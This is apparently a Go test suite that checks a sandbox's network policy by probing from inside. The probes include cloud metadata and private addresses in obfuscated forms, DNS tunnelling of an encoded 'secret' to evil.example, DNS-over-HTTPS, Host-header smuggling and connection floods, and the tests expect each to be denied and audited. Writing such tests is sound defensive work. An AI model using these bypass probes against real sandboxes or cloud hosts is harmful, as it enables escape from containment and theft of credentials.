package hostile

import (
	"bytes"
	"context"
	_ "embed"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/url"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/berth-dev/berth/sandbox"
	"github.com/berth-dev/berth/test/rig"
)

//go:embed probe.py
var probeSource []byte

// attack is one thing that is tried from within. Nothing may come of it, unless
// passes says otherwise.
type attack struct {
	what   string
	try    []any
	passes string                          // part of what comes of it
	audit  func(e sandbox.AuditEntry) bool // an entry that must be there
}

// house is a server with one sandbox to attack from.
type house struct {
	*rig.Server
	t       *testing.T
	outside *outside
	id      string
}

func newHouse(t *testing.T, p *sandbox.Policy) *house {
	t.Helper()
	o := newOutside(t)
	h := &house{Server: rig.Start(t, flags...), t: t, outside: o}
	s, err := h.Create(t.Context(), sandbox.CreateRequest{Policy: p})
	if err != nil {
		t.Fatal(err)
	}
	h.id = string(s.ID)
	return h
}

// run runs a program as root inside, with input, and returns what it printed.
func (h *house) run(id string, input []byte, argv ...string) string {
	h.t.Helper()
	ctx, cancel := context.WithTimeout(h.t.Context(), 4*time.Minute)
	defer cancel()
	p, err := h.StartProcess(ctx, id, sandbox.Command{Argv: argv, User: "root", Stdin: true, Lossless: true})
	if err != nil {
		h.t.Fatal(err)
	}
	if err := h.Input(ctx, id, p.ID, bytes.NewReader(input)); err != nil {
		h.t.Fatal(err)
	}
	if err := h.CloseInput(ctx, id, p.ID); err != nil {
		h.t.Fatal(err)
	}
	events, err := h.Attach(ctx, id, p.ID, sandbox.Offsets{})
	if err != nil {
		h.t.Fatal(err)
	}
	defer events.Close()
	var out strings.Builder
	for {
		e, err := events.Recv()
		if errors.Is(err, io.EOF) {
			return out.String()
		}
		if err != nil {
			h.t.Fatalf("%v after %s", err, out.String())
		}
		out.Write(e.Data)
	}
}

// probe tries all attacks in one process inside and judges what came of each.
func (h *house) probe(id string, attacks []attack) {
	h.t.Helper()
	var in bytes.Buffer
	for _, a := range attacks {
		line, err := json.Marshal(a.try)
		if err != nil {
			h.t.Fatal(err)
		}
		in.Write(append(line, '\n'))
	}
	out := strings.Split(strings.TrimSpace(h.run(id, in.Bytes(), "python3", "-c", string(probeSource))), "\n")
	if len(out) != len(attacks) {
		h.t.Fatalf("%d attacks, and %d lines of what came of them:\n%s", len(attacks), len(out), strings.Join(out, "\n"))
	}
	for i, a := range attacks {
		came := strings.HasPrefix(out[i], "ok")
		if came != (a.passes != "") || !strings.Contains(out[i], a.passes) {
			h.t.Errorf("%s: %v gave %s, want %q", a.what, a.try, out[i], a.passes)
		}
		if a.audit != nil {
			h.wantAudit(id, a.what, a.audit)
		}
	}
}

// wantAudit waits for an entry.
func (h *house) wantAudit(id, what string, f func(sandbox.AuditEntry) bool) {
	h.t.Helper()
	ctx, cancel := context.WithTimeout(h.t.Context(), 2*time.Minute)
	defer cancel()
	entries, err := h.FollowAudit(ctx, sandbox.AuditQuery{Sandbox: id})
	if err != nil {
		h.t.Fatal(err)
	}
	defer entries.Close()
	for {
		e, err := entries.Recv()
		if err != nil {
			h.t.Errorf("%s: the audit does not show it: %v", what, err)
			return
		}
		if f(e) {
			return
		}
	}
}

func denied(address string) func(sandbox.AuditEntry) bool {
	return func(e sandbox.AuditEntry) bool {
		return e.Address == address && e.Verdict == sandbox.VerdictDenied && e.Reason != ""
	}
}

func deniedName(name string) func(sandbox.AuditEntry) bool {
	return func(e sandbox.AuditEntry) bool {
		return strings.EqualFold(e.Host, name) && e.Verdict == sandbox.VerdictDenied && e.Reason != ""
	}
}

// closed are attacks that no policy lets pass.
func (h *house) closed() []attack {
	var all []attack
	for _, a := range []string{
		"169.254.169.254", "fd00:ec2::254", "fd20:ce::254", "168.63.129.16", "100.100.100.200", "192.0.0.192",
		"10.1.2.3", "172.16.5.5", "192.168.1.1", "100.64.7.7", closedSite, "192.0.2.77", "203.0.113.7", "240.0.0.1",
		"64:ff9b::a9fe:a9fe", "64:ff9b::5db8:d822", "2002:a9fe:a9fe::1", "2001:0:4136:e378::1", "::ffff:169.254.169.254", "::169.254.169.254", "fe80::1%eth0", "fec0::1",
	} {
		all = append(all, attack{what: "closed to all", try: []any{"tcp", a, 80}})
	}
	all[0].audit, all[1].audit, all[6].audit = denied("169.254.169.254"), denied("fd00:ec2::254"), denied("10.1.2.3")
	door, _ := url.Parse(h.URL)
	port, _ := strconv.Atoi(door.Port())
	for _, a := range append(hostAddresses(h.t), "10.200.0.1", "fd62:6572:7468::1", "127.0.0.1", "::1", "0.0.0.0", "2130706433", "0x7f.1", "localhost") {
		all = append(all, attack{what: "the server's own doors", try: []any{"tcp", a, port}})
	}
	return append(all,
		attack{what: "another resolver", try: []any{"name", "good.outside.example", 1, site}},
		attack{what: "another resolver over TLS", try: []any{"tcp", site, 853}, audit: func(e sandbox.AuditEntry) bool { return e.Port == 853 && e.Verdict == sandbox.VerdictDenied }},
		attack{what: "a null question", try: []any{"name", "good.outside.example", 10}},
		attack{what: "all there is to ask", try: []any{"name", "good.outside.example", 255}},
		attack{what: "rebinding", try: []any{"look", "rebind.outside.example"}},
		attack{what: "QUIC", try: []any{"udp", site, 443}, audit: func(e sandbox.AuditEntry) bool {
			return e.Protocol == "udp" && e.Port == 443 && e.Verdict == sandbox.VerdictDenied
		}},
		attack{what: "ping", try: []any{"ping", site}},
		attack{what: "a protocol of its own", try: []any{"raw", site, 47}},
	)
}

// TestOpen attacks under the profile that lets most pass.
func TestOpen(t *testing.T) {
	h := newHouse(t, nil)
	h.probe(h.id, append(h.closed(),
		attack{what: "the public", try: []any{"tcp", site, 80}, passes: "probe at " + site + ":80"},
		attack{what: "the public, by name", try: []any{"tls", "good.outside.example", 443, "good.outside.example", "good.outside.example"}, passes: "at " + site + ":443",
			audit: func(e sandbox.AuditEntry) bool {
				return e.Host == "good.outside.example" && e.Port == 443 && e.Sent > 100 && e.Received > 100 && e.Rule == "profile open"
			}},
		attack{what: "text", try: []any{"name", "good.outside.example", 16}, passes: "1 answers"},
		attack{what: "a long name", try: []any{"name", strings.Repeat("c2VjcmV0c2VjcmV0.", 12) + "outside.example", 1}, audit: func(e sandbox.AuditEntry) bool {
			return e.Kind == sandbox.AuditDNS && e.Reason == "the name is too long"
		}},
	))
	for _, at := range []string{closedSite + ":80", closedSite + ":443", site + ":443/udp", site + ":53/udp", site + ":853"} {
		if n := h.outside.count(at); n > 0 {
			t.Errorf("%s was reached %d times", at, n)
		}
	}
}

func onlyGood() *sandbox.Policy {
	return &sandbox.Policy{Profile: sandbox.ProfileAllow, Allow: []sandbox.Rule{{Name: "good", Domains: []string{"good.outside.example", "*.good.outside.example"}}}}
}

// TestAllowList attacks where one domain is allowed, and none of it may serve for
// another.
func TestAllowList(t *testing.T) {
	h := newHouse(t, onlyGood())
	const good = "good.outside.example"
	attacks := append(h.closed(),
		attack{what: "what is allowed", try: []any{"tls", good, 443, good, good}, passes: "at " + site + ":443"},
		attack{what: "beneath it", try: []any{"tls", "www." + good, 443, "www." + good, "www." + good}, passes: "at " + site + ":443"},
		attack{what: "in plain text", try: []any{"tcp", good, 80, "GET / HTTP/1.1\r\nHost: " + good + "\r\nConnection: close\r\n\r\n"}, passes: "200 OK"},
		attack{what: "another name", try: []any{"look", "other.outside.example"}, audit: deniedName("other.outside.example")},
		attack{what: "a tunnel of names", try: []any{"name", "c2VjcmV0.evil.example", 1}, audit: deniedName("c2vjcmv0.evil.example")},
		attack{what: "a tunnel of texts", try: []any{"name", "c2VjcmV0.evil.example", 16}},
		attack{what: "names over HTTPS", try: []any{"tls", otherSite, 443, "dns.example", "dns.example", "/dns-query"}, audit: deniedName("dns.example")},
		attack{what: "an address of nobody", try: []any{"tcp", otherSite, 80}, audit: denied(otherSite)},
		attack{what: "an address and no name", try: []any{"tls", otherSite, 443, "", "other.outside.example"}, audit: denied(otherSite)},
		attack{what: "the allowed address, another name", try: []any{"tls", site, 443, "other.outside.example", good}, audit: deniedName("other.outside.example")},
		attack{what: "the allowed address, no name", try: []any{"tls", site, 443, "", good}},
		attack{what: "the allowed name, another address", try: []any{"tls", otherSite, 443, good, good}, passes: "at " + site + ":443"},
		attack{what: "another host in plain text", try: []any{"tcp", site, 80, "GET / HTTP/1.1\r\nHost: other.outside.example\r\n\r\n"}, audit: deniedName("other.outside.example")},
		attack{what: "two hosts in plain text", try: []any{"tcp", site, 80, "GET / HTTP/1.1\r\nHost: " + good + "\r\nHost: other.outside.example\r\n\r\n"}},
		attack{what: "a host in the target", try: []any{"tcp", site, 80, "GET http://other.outside.example/ HTTP/1.1\r\nHost: " + good + "\r\n\r\n"}},
		attack{what: "no host at all", try: []any{"tcp", site, 80, "GET / HTTP/1.0\r\n\r\n"}},
	)
	h.probe(h.id, attacks)
	for _, at := range []string{otherSite + ":80", otherSite + ":443", closedSite + ":443"} {
		if n := h.outside.count(at); n > 0 {
			t.Errorf("%s was reached %d times", at, n)
		}
	}
	if asked := h.outside.questions(); strings.Contains(asked, "c2vjcmv0") || strings.Contains(asked, "other.") {
		t.Errorf("names that are not allowed were asked for:\n%s", asked)
	}
}

// TestTheSecondRequest asks for an allowed host first and for another one then, on
// the same connection in plain text.
func TestTheSecondRequest(t *testing.T) {
	h := newHouse(t, onlyGood())
	out := h.run(h.id, nil, "python3", "-c", `
import socket, http.client
c = socket.create_connection(("good.outside.example", 80), timeout=15)
for host in ("good.outside.example", "other.outside.example"):
    try:
        c.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        r = http.client.HTTPResponse(c)
        r.begin()
        print(r.status, r.read().decode().replace("\n", " "))
    except (OSError, http.client.HTTPException) as e:
        print(repr(e))`)
	first, second, _ := strings.Cut(strings.TrimSpace(out), "\n")
	if !strings.Contains(first, "good.outside.example at") || strings.Contains(second, "other.outside.example at") || strings.Contains(second, "200") {
		t.Errorf("it was answered\n%s", out)
	}
	h.wantAudit(h.id, "the second host", func(e sandbox.AuditEntry) bool {
		return e.Kind == sandbox.AuditRequest && e.Verdict == sandbox.VerdictDenied && strings.Contains(e.Reason, "other.outside.example")
	})
}

// TestWhatIsOpenIsCut tightens the policy under a transfer, and keeps it tight
// over a killed server, a pause and a stop.
func TestWhatIsOpenIsCut(t *testing.T) {
	h := newHouse(t, nil)
	p, err := h.StartProcess(t.Context(), h.id, sandbox.Command{Shell: "curl -sS --max-time 100 -o /dev/null http://" + site + "/slow"})
	if err != nil {
		t.Fatal(err)
	}
	for end := time.Now().Add(2 * time.Minute); h.outside.count(site+":80") == 0; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatal("the transfer did not begin")
		}
	}
	if _, err := h.SetPolicy(t.Context(), h.id, *onlyGood()); err != nil {
		t.Fatal(err)
	}
	exit, err := h.WaitProcess(t.Context(), h.id, p.ID)
	if err != nil || exit.Code != 56 && exit.Code != 52 && exit.Code != 18 {
		t.Errorf("the transfer ended with %+v, %v; want a reset", exit, err)
	}
	h.wantAudit(h.id, "the cut", func(e sandbox.AuditEntry) bool { return strings.HasPrefix(e.Reason, "the policy has changed") })
	still := []attack{
		{what: "an address", try: []any{"tcp", site, 80}},
		{what: "another name", try: []any{"look", "other.outside.example"}},
		{what: "what is allowed", try: []any{"tls", "good.outside.example", 443, "good.outside.example", "good.outside.example"}, passes: "200"},
	}
	h.probe(h.id, still)
	h.Restart(t, syscall.SIGKILL, flags...)
	h.probe(h.id, still)
	for what, verbs := range map[string][2]func(context.Context, string) (sandbox.Sandbox, error){
		"pause": {h.Pause, h.Resume}, "stop": {h.Stop, h.Start},
	} {
		for _, verb := range verbs {
			if _, err := verb(t.Context(), h.id); err != nil {
				t.Fatalf("%s: %v", what, err)
			}
		}
		h.probe(h.id, still)
	}
}

// TestForks gives a copy the policy of its parent, and lets each change its own.
func TestForks(t *testing.T) {
	h := newHouse(t, onlyGood())
	const good = "good.outside.example"
	allowed := attack{what: "what is allowed", try: []any{"tls", good, 443, good, good}, passes: "200"}
	other := attack{what: "an address", try: []any{"tcp", site, 80}}
	h.probe(h.id, []attack{allowed, other})
	f, err := h.Fork(t.Context(), h.id, sandbox.ForkRequest{Count: 1})
	if err != nil || f.Children[0].Err != nil {
		t.Fatal(err, f)
	}
	child := string(f.Children[0].Sandbox.ID)
	h.probe(child, append(h.closed(), allowed, other))
	if _, err := h.SetPolicy(t.Context(), child, sandbox.Policy{Profile: sandbox.ProfileNone}); err != nil {
		t.Fatal(err)
	}
	h.probe(child, []attack{{what: "the copy's own policy", try: []any{"look", good}}})
	h.probe(h.id, []attack{allowed, other})
}

// TestNeighbours looks for one sandbox from another: they have the same address.
func TestNeighbours(t *testing.T) {
	h := newHouse(t, nil)
	s, err := h.Create(t.Context(), sandbox.CreateRequest{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.StartProcess(t.Context(), string(s.ID), sandbox.Command{Shell: "cd /tmp && echo neighbour > index.html && exec python3 -m http.server --bind :: 8000", Detach: true}); err != nil {
		t.Fatal(err)
	}
	h.probe(string(s.ID), []attack{{what: "itself", try: []any{"look", "localhost"}, passes: "127.0.0.1"}})
	var attacks []attack
	for _, a := range []string{"10.200.0.2", "fd62:6572:7468::2", "10.200.0.3", "10.200.0.1"} {
		attacks = append(attacks, attack{what: "a neighbour", try: []any{"tcp", a, 8000}})
	}
	h.probe(h.id, attacks)
}

// TestACrowdInside opens more connections than one sandbox may from inside, while
// another works.
func TestACrowdInside(t *testing.T) {
	h := newHouse(t, nil)
	s, err := h.Create(t.Context(), sandbox.CreateRequest{})
	if err != nil {
		t.Fatal(err)
	}
	crowd := fmt.Sprintf(`
import socket, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
held, refused = [], 0
for n in range(2500):
    try:
        held.append(socket.create_connection((%q, 80), timeout=30))
    except OSError:
        refused += 1
print(len(held), refused, flush=True)
import sys; sys.stdin.read()`, site)
	p, err := h.StartProcess(t.Context(), h.id, sandbox.Command{Argv: []string{"python3", "-c", crowd}, User: "root", Stdin: true, Lossless: true})
	if err != nil {
		t.Fatal(err)
	}
	line, err := h.WaitLine(t.Context(), h.id, p.ID, sandbox.LineWait{Timeout: 2 * time.Minute, Regexp: `^\d+ \d+`})
	if err != nil {
		t.Fatal(err)
	}
	var held, refused int
	if _, err := fmt.Sscanf(line.Text, "%d %d", &held, &refused); err != nil || held > 1024 || held < 900 || held+refused != 2500 {
		t.Errorf("%q: %d are held and %d refused, %v", line.Text, held, refused, err)
	}
	h.probe(string(s.ID), []attack{{what: "the other sandbox", try: []any{"tcp", site, 80}, passes: "probe at"}})
	if err := h.CloseInput(t.Context(), h.id, p.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := h.WaitProcess(t.Context(), h.id, p.ID); err != nil {
		t.Fatal(err)
	}
	h.probe(h.id, []attack{{what: "the same one, later", try: []any{"tcp", site, 80}, passes: "probe at"}})
}
